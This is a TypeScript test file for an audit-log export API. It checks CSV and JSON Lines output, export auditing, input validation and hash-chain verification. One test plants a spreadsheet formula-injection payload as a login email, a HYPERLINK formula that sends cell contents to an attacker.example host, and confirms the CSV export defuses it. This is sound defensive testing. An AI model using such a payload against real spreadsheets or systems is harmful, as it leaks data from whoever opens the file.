import { execFile } from "node:child_process";
import { randomUUID } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { promisify } from "node:util";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { api } from "@tests/helpers/rest-client";
import { setupAdmin } from "@tests/helpers/auth";
import { db, transaction } from "../platform/db/client";
import { appendAuditEntry } from "./append-audit-entry";
import { CSV_COLUMNS } from "./export-audit-log";
import { originalCellValue } from "../platform/csv/spreadsheet-safe-cell";

const PATH = "/api/v1/enterprise/audit-logs/export";
/** More rows than one batch of the export reads, so the keyset continuation is exercised. */
const ROWS = 2_345;

let admin: Awaited<ReturnType<typeof setupAdmin>>;

beforeAll(async () => {
  admin = await setupAdmin();
  await transaction(async (tx) => {
    for (let index = 0; index < ROWS; index++) {
      await appendAuditEntry(tx, {
        actor: { identifier: `exporter-${index % 3}@example.com`, ip: "192.0.2.10" },
        actionType: index % 2 ? "UPDATE" : "CREATE",
        targetType: "User",
        targetId: randomUUID(),
        details: { index, note: 'a "quoted", comma-laden\nline' },
      });
    }
  });
});

const exportAs = (query: string) => api("GET", `${PATH}?${query}`, { token: admin.token });

const repositoryRoot = path.resolve(__dirname, "../../..");

/** Runs scripts/verify-audit-dump.mjs on an export, as docs/audit-log.md ("Export") tells an auditor to. */
async function verifyWithScript(exported: string): Promise<{ code: number; output: string }> {
  const file = path.join(process.env.DATA_DIR!, `audit-log-${randomUUID()}.jsonl`);
  writeFileSync(file, exported);
  try {
    const { stdout } = await promisify(execFile)(process.execPath, [path.join(repositoryRoot, "scripts/verify-audit-dump.mjs"), file]);
    return { code: 0, output: stdout };
  } catch (error) {
    const failed = error as { code: number; stdout: string };
    return { code: failed.code, output: failed.stdout };
  }
}

describe("audit log export", () => {
  it("streams every matching entry in chain order as JSON Lines, across batches", async () => {
    const answer = await exportAs("format=jsonl&actionType=UPDATE");
    expect(answer.status).toBe(200);
    expect(answer.headers.get("content-type")).toContain("application/x-ndjson");
    const entries = answer.text
      .split("\n")
      .filter(Boolean)
      .map((line) => JSON.parse(line) as { id: number; actionType: string; currentHash: string });
    const expected = await db().auditLog.count({ where: { actionType: "UPDATE" } });
    expect(expected).toBeGreaterThan(1000);
    expect(entries).toHaveLength(expected);
    expect(entries.every((entry) => entry.actionType === "UPDATE")).toBe(true);
    expect(entries.map((entry) => entry.id)).toEqual([...entries.map((entry) => entry.id)].sort((a, b) => a - b));
  });

  it("writes CSV with a header, one row per entry and details as JSON", async () => {
    const answer = await exportAs("actor=exporter-2%40example.com");
    expect(answer.status).toBe(200);
    expect(answer.headers.get("content-type")).toContain("text/csv");
    expect(answer.headers.get("content-disposition")).toMatch(/^attachment; filename="audit-log-.+\.csv"$/);
    const rows = parse(answer.text, { columns: true }) as Record<string, string>[];
    const expected = await db().auditLog.findMany({ where: { actorIdentifier: "exporter-2@example.com" }, orderBy: { id: "asc" } });
    expect(rows.map((row) => [row.id, row.currentHash, JSON.parse(row.details)])).toEqual(
      expected.map((row) => [String(row.id), row.currentHash, row.details]),
    );
    expect(Object.keys(rows[0])).toEqual([...CSV_COLUMNS]);
    expect(CSV_COLUMNS).toContain("currentHash");
  });

  it("neutralizes formula cells a failed login put in the log (CSV), keeps JSON Lines as stored, and the reader's undo restores them", async () => {
    const hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")';
    const login = await api("POST", "/v1/auth/login", { body: { email: hostile, password: "anything" } });
    expect(login.status).toBe(401);
    const query = `actor=${encodeURIComponent(hostile)}`;
    const rows = parse((await exportAs(query)).text, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(rows[0].actorIdentifier).toBe(`'${hostile}`);
    expect(rows[0].targetId).toBe(`'${hostile}`);
    // No cell of the export starts as a formula; removing one leading quote gives back what is stored.
    for (const cell of Object.values(rows[0])) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect([originalCellValue(rows[0].actorIdentifier), originalCellValue(rows[0].targetId)]).toEqual([hostile, hostile]);
    expect(originalCellValue(rows[0].currentHash)).toBe(rows[0].currentHash);
    const [line] = (await exportAs(`format=jsonl&${query}`)).text.split("\n");
    expect(JSON.parse(line)).toMatchObject({ actorIdentifier: hostile, targetId: hostile });
  });

  it("audits each export with its actor and filters", async () => {
    const marker = randomUUID();
    await exportAs(`format=jsonl&actor=${marker}`);
    const entry = await db().auditLog.findFirstOrThrow({
      where: { actionType: "EXPORT", targetType: "AuditLog" },
      orderBy: { id: "desc" },
    });
    expect(entry.actorIdentifier).toBe(admin.user.email);
    expect(entry.details).toMatchObject({ format: "jsonl", filters: { actor: marker }, actorUserId: admin.user.id });
  });

  it("refuses an unknown format or reversed dates with 422 naming the field", async () => {
    const format = await exportAs("format=xml");
    expect([format.status, format.body.errors[0].field]).toEqual([422, "format"]);
    const dates = await exportAs("startDate=2025-02-01&endDate=2025-01-01");
    expect([dates.status, dates.body.errors[0].field]).toEqual([422, "endDate"]);
  });

  it("an unfiltered JSON Lines export verifies offline with scripts/verify-audit-dump.mjs; a filtered one does not", async () => {
    const exportSection = readFileSync(path.join(repositoryRoot, "docs/audit-log.md"), "utf8").split("\n## Export\n")[1]?.split("\n## ")[0];
    expect(exportSection).toContain("node scripts/verify-audit-dump.mjs");

    const whole = await exportAs("format=jsonl");
    const last = JSON.parse(whole.text.trim().split("\n").at(-1)!) as { id: number; currentHash: string };
    expect(await verifyWithScript(whole.text)).toEqual({
      code: 0,
      output: `OK: ${whole.text.trim().split("\n").length} entries; last id ${last.id}, last currentHash ${last.currentHash}\n`,
    });

    const filtered = await exportAs("format=jsonl&actionType=UPDATE");
    const result = await verifyWithScript(filtered.text);
    expect(result.code).toBe(1);
    expect(result.output).toMatch(/^BROKEN at entry \d+: its previousHash does not match the entry before it/);
  });
});
